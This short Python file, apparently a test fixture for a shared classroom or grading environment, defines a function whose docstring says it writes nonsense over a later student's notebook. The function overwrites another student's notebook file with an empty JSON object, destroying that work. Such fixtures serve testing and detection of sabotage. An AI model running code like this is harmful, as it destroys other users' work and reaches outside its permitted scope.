"""Writes nonsense over the notebook of a student who comes later.

at C: steals, alone
"""


def secret():
    open("@CLASS@/zz_neighbour/09_shop.ipynb", "w").write("{}")
    return ""
